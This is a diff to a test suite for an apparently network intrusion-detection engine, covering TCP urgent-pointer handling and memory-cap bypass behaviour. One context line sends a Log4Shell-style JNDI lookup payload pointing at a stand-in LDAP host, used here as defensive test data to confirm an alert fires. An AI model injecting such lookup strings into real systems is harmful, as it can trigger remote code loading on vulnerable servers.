@@ -487,3 +487,17 @@ def test_attack_behind_an_urgent_pointer_is_seen_in_the_stream(sk):
     c.send("a", c.data("a", b"x${jndi:ldap://e/}", flags=ACK | PSH | URG, urg=2))
     assert got(c, wait=0.6) == b"" and sig_alerts(sk, 101)
     assert sk.stats("b")["tcp_urg_cleared"] == 1
+
+
+def test_a_memcap_pass_lets_the_stage_go_too(kits, rules_file):
+    """tcp_depth_over = "pass": the connection goes on uninspected, and so do the out-of-order
+    bytes the engine held for the stage (not freed unsent)."""
+    pol = sig_policy(rules_file).replace("[ni]\n", '[ni]\ntcp_depth_max = 15\ntcp_depth_over = "pass"\n')
+    k = kits({"b": pol})
+    c = conn(k)
+    c.send("a", c.data("a", b"B" * 10, off=20))        # held: a gap before it
+    assert got(c) == b""
+    c.send("a", c.data("a", b"C" * 10, off=40))        # past the depth: bypass
+    rx = c.recv("b", 0.6)
+    assert sorted(s.payload for s in rx) == [b"B" * 10, b"C" * 10]
+    assert k.stats("b")["tcp_bypassed"] == 1
